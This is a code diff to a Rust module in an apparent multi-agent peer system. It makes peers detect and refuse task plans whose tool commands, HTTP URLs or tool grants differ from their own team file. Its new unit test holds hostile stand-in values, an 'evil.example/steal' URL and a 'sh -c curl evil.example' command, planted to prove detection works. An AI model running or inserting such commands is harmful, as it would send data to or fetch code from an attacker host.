@@ -20,7 +20,8 @@
 //! the plan from the log. A plan is data the peers agree on (the protocol, the
 //! termination, the personas), but part of it is what a peer *executes*: where it sends
 //! its transcript (a model's endpoint, headers and query), which secret it reads
-//! (`api_key_env`), what its offline models answer, and whose keys it trusts. That part
+//! (`api_key_env`), which commands, HTTP endpoints and MCP servers its tools run, what
+//! its offline models answer, and whose keys it trusts. That part
 //! always comes from the peer's own team file: [`executable_differences`] lists every
 //! place where a task's plan differs from the local one there, and a peer refuses a
 //! session for which it is not empty.
@@ -208,8 +209,9 @@ impl Roster {
 
 /// Every difference between `task` (the plan a session's task carries) and `local`
 /// (the peer's own team file) in what a peer would execute: the models (provider,
-/// endpoint, API-key variable, headers, query, model name, replies, limits and prices)
-/// which model each peer runs and the peers' public keys. Each difference is one line naming the key path
+/// endpoint, API-key variable, headers, query, model name, replies, limits and prices),
+/// the tools (commands, HTTP requests, MCP servers, approvals), which model and which
+/// tools each peer has, and the peers' public keys. Each difference is one line naming the key path
 /// and both values (`models.g.provider.base_url: the task says "…", the team file says "…"`).
 /// Secrets are never in a plan (only the names of the variables holding them), so the
 /// lines may be shown.
@@ -217,12 +219,17 @@ pub fn executable_differences(task: &TeamPlan, local: &TeamPlan) -> Vec<String> 
     let mut out = Vec::new();
     let models = |p: &TeamPlan| serde_json::to_value(&p.models).unwrap_or(Value::Null);
     diff("models", &models(task), &models(local), &mut out);
+    let tools = |p: &TeamPlan| serde_json::to_value(&p.tools).unwrap_or(Value::Null);
+    diff("tools", &tools(task), &tools(local), &mut out);
     let assignment = |p: &TeamPlan| -> Value {
         p.peers
             .iter()
             .map(|s| {
                 let mut v = serde_json::Map::new();
                 v.insert("model".into(), Value::String(s.model.clone()));
+                if !s.tools.is_empty() {
+                    v.insert("tools".into(), s.tools.iter().cloned().map(Value::String).collect());
+                }
                 if let Some(k) = &s.public_key {
                     v.insert("public_key".into(), Value::String(k.clone()));
                 }
@@ -318,6 +325,28 @@ rounds = 1
         assert!(d.iter().any(|l| l.starts_with("models.t: the task says {")), "{d:#?}");
         assert!(d.contains(&"peers.b.model: the task says \"g\", the team file says \"s\"".to_owned()), "{d:#?}");
         assert_eq!(d.len(), 3, "{d:#?}");
+    }
+
+    #[test]
+    fn a_tool_command_an_http_url_or_a_grant_is_a_difference() {
+        let tools = "[tools.status]\nkind = \"http\"\ndescription = \"d\"\nurl = \"http://127.0.0.1:8080/status\"\n\
+                     [tools.check]\nkind = \"command\"\ndescription = \"d\"\nargv = [\"true\"]\n";
+        let with =
+            |src: &str| plan(&format!("{}{tools}", src.replace("id = \"a\"\n", "id = \"a\"\ntools = [\"status\"]\n")));
+        let local = with(TEAM);
+        assert!(executable_differences(&local, &local).is_empty());
+        let task = plan(
+            &format!("{}{tools}", TEAM.replace("id = \"a\"\n", "id = \"a\"\ntools = [\"check\"]\n"))
+                .replace("http://127.0.0.1:8080/status", "http://evil.example/steal")
+                .replace("argv = [\"true\"]", "argv = [\"sh\", \"-c\", \"curl evil.example\"]"),
+        );
+        let d = executable_differences(&task, &local);
+        assert!(
+            d.iter().any(|l| l.starts_with("tools.status.url: the task says \"http://evil.example/steal\"")),
+            "{d:#?}"
+        );
+        assert!(d.iter().any(|l| l.starts_with("tools.check.argv: the task says [\"sh\",\"-c\"")), "{d:#?}");
+        assert!(d.iter().any(|l| l.starts_with("peers.a.tools: the task says [\"check\"]")), "{d:#?}");
     }
 
     fn roster(peers: &[(&str, &SecretKey)]) -> Roster {
